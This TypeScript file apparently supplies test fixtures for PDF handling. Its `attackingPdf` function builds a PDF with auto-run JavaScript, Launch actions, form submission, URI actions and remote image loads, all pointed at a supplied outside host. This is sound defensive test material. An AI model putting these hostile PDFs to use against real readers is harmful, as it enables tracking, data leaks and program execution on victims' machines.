// PDFs written by hand: pages with a bar and a text, and what an attacker adds to them.

/** A document of some pages; `catalog` is added to its first object, `objects` stand behind the pages. */
export interface PdfOptions {
  /** The text of each page. */
  texts?: readonly string[];
  /** Entries of the document itself, as an action when it is opened. */
  catalog?: string;
  /** Entries of each page, as annotations. */
  page?: string;
  /** Further drawing of each page. */
  drawing?: string;
  /** Further resources of each page. */
  resources?: string;
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** Makes a PDF whose pages show a black bar and their text. */
export function pdf({
  texts = ['Prova do teste'],
  catalog = '',
  page = '',
  drawing = '',
  resources = '',
}: PdfOptions = {}): Buffer {
  const numberOf = (index: number): number => 4 + index * 2;
  const kids = texts.map((_, index) => `${String(numberOf(index))} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${String(texts.length)} >>`,
    FONT,
  ];
  texts.forEach((text, index) => {
    const contents = `0 0 0 rg 72 500 300 120 re f BT /F1 24 Tf 72 700 Td (${text}) Tj ET ${drawing}`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${String(numberOf(index) + 1)} 0 R
       /Resources << /Font << /F1 3 0 R >> ${resources} >> ${page} >>`,
      `<< /Length ${String(contents.length)} >>\nstream\n${contents}\nendstream`,
    );
  });
  let body = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = body.length;
    body += `${String(index + 1)} 0 obj\n${object}\nendobj\n`;
    return String(place).padStart(10, '0');
  });
  const size = String(objects.length + 1);
  const rows = places.map((place) => `${place} 00000 n \n`).join('');
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}`;
  const trailer = `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${String(body.length)}\n%%EOF\n`;
  return Buffer.from(body + table + trailer, 'latin1');
}

/** A PDF that tries to start a program, run scripts, load an image, send a form and open an address. */
export function attackingPdf(outside: string): Buffer {
  const uri = `/S /URI /URI (${outside}/uri)`;
  const rectangle = '/Rect [0 0 595 842]';
  return pdf({
    catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${outside}/js"\\); this.submitForm\\("${outside}/form"\\);) >>
      /AA << /WC << /S /Launch /F (${outside}/launch) >> >>
      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.getURL\\("${outside}/names"\\);) >>] >> >>
      /AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><image href="${outside}/xfa"/></xdp:xdp>) >>`,
    page: `/AA << /O << ${uri} >> >> /Annots [
      << /Type /Annot /Subtype /Link ${rectangle} /A << ${uri} >> >>
      << /Type /Annot /Subtype /Link ${rectangle} /A << /S /Launch /F (${outside}/start) >> >>
      << /Type /Annot /Subtype /Widget /FT /Btn /T (b) ${rectangle} /A << /S /SubmitForm /F (${outside}/submit) >> >> ]`,
    drawing: '/Im1 Do',
    resources: `/XObject << /Im1 << /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB
      /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${outside}/image.png) >> >> >>`,
  });
}

/** A PDF whose contents are locked by a password. */
export const lockedPdf = (): Buffer => {
  const open = pdf().toString('latin1');
  const key = '<'.concat('41'.repeat(32), '>');
  const lock = `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -4 >> /ID [<00> <00>]`;
  return Buffer.from(open.replace('/Root 1 0 R', `/Root 1 0 R ${lock}`), 'latin1');
};
